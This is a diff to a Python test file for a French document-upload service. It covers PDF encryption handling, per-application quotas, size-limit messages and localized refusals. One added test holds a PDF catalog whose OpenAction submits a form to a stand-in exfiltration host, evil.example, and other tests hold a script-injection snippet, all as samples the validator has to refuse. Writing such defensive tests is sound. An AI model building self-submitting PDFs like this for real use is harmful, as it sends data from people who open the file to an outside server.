@@ -168,6 +168,24 @@ def test_a_pdf_locked_by_a_password_is_refused_and_one_open_to_all_is_read():
     assert documents.check("ouvert.pdf", encrypted(""))[0] == "application/pdf"
 
 
+@pytest.mark.parametrize("algorithm", ["AES-128", "AES-256"])
+def test_an_aes_pdf_that_opens_without_a_password_is_read(algorithm):
+    """A payslip that only forbids printing or copying (an owner password) opens for anyone: it is read, not refused."""
+    from pypdf import PdfWriter
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=100, height=100)
+    writer.encrypt(user_password="", owner_password="employeur", algorithm=algorithm)
+    out = io.BytesIO()
+    writer.write(out)
+    assert documents.check("bulletin.pdf", out.getvalue())[0] == "application/pdf"
+
+
+def test_a_form_that_sends_itself_somewhere_is_refused():
+    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F (https://evil.example/collect) >> >>"
+    assert ACTIVE in refusal(_pdf_with_object_stream(catalog))
+
+
 def test_a_compressed_stream_is_not_searched_byte_by_byte():
     """Compressed page content may spell anything: only what the parser reads as a name counts."""
     content = zlib.compress(b"BT /F1 12 Tf (/JavaScript <script> /Launch) Tj ET")
@@ -226,17 +244,41 @@ def upload(client, candidacy, data: bytes, name: str):
                        content_type="multipart/form-data")
 
 
-def test_the_number_of_files_per_candidacy_is_limited_by_configuration(app, client, draft):
-    app.config["VAE_DOCUMENTS_MAX_COUNT"] = 2
+def test_the_number_of_files_per_candidacy_is_limited_by_configuration(app, client, draft, monkeypatch):
+    monkeypatch.setitem(app.config, "VAE_DOCUMENTS_MAX_COUNT", 2)
     assert [upload(client, draft, PDF, f"piece{i}.pdf").status_code for i in range(2)] == [302, 302]
     third = upload(client, draft, PDF, "piece3.pdf")
-    assert third.status_code == 422
-    assert "Ce dossier a déjà 2 pièces, le plus permis" in third.get_data(as_text=True)
+    assert third.status_code == 422  # sent from a page opened before the other two landed
+    assert "Le nombre maximum de pièces est atteint" in third.get_data(as_text=True)
+    with pytest.raises(DocumentRefused, match="Ce dossier a déjà 2 pièces, le maximum autorisé"):
+        documents.check_quota(draft, 10, max_count=2, max_total_bytes=10**9)
     assert len(draft.documents) == 2
 
 
-def test_the_total_size_per_candidacy_is_limited_by_configuration(app, client, draft):
-    app.config["VAE_DOCUMENTS_MAX_TOTAL_MB"] = 1
+def test_the_page_says_what_remains_of_the_allowance_and_hides_the_form_when_it_is_used_up(app, client, draft, monkeypatch):
+    monkeypatch.setitem(app.config, "VAE_DOCUMENTS_MAX_COUNT", 1)
+    page = client.get(f"/candidatures/{draft.id}").get_data(as_text=True)
+    assert "0 pièce(s) sur 1 au plus" in page and 'id="submit-document"' in page
+    assert upload(client, draft, PDF, "piece.pdf").status_code == 302
+    page = client.get(f"/candidatures/{draft.id}").get_data(as_text=True)
+    assert "Le nombre maximum de pièces est atteint" in page and 'id="submit-document"' not in page
+
+
+def test_a_body_beyond_the_request_limit_is_said_beside_the_documents_not_as_a_bare_error(client, draft):
+    response = upload(client, draft, PDF + b"0" * (13 * 1024 * 1024), "enorme.pdf")
+    assert response.status_code == 303 and response.headers["Location"].endswith(f"/candidatures/{draft.id}#documents")
+    assert "trop volumineux : 10 Mo au plus par pièce" in client.get(response.headers["Location"]).get_data(as_text=True)
+
+
+def test_refusals_are_said_in_english_to_an_english_reader(client, draft):
+    client.get("/langue/en")
+    response = upload(client, draft, b"%PDF-1.4\n<html><script>alert(1)</script>", "page.pdf")
+    assert response.status_code == 422
+    assert "active content" in response.get_data(as_text=True) and "contenu actif" not in response.get_data(as_text=True)
+
+
+def test_the_total_size_per_candidacy_is_limited_by_configuration(app, client, draft, monkeypatch):
+    monkeypatch.setitem(app.config, "VAE_DOCUMENTS_MAX_TOTAL_MB", 1)
     big = _noise_png()
     assert upload(client, draft, big, "a.png").status_code == 302
     second = upload(client, draft, big, "b.png")
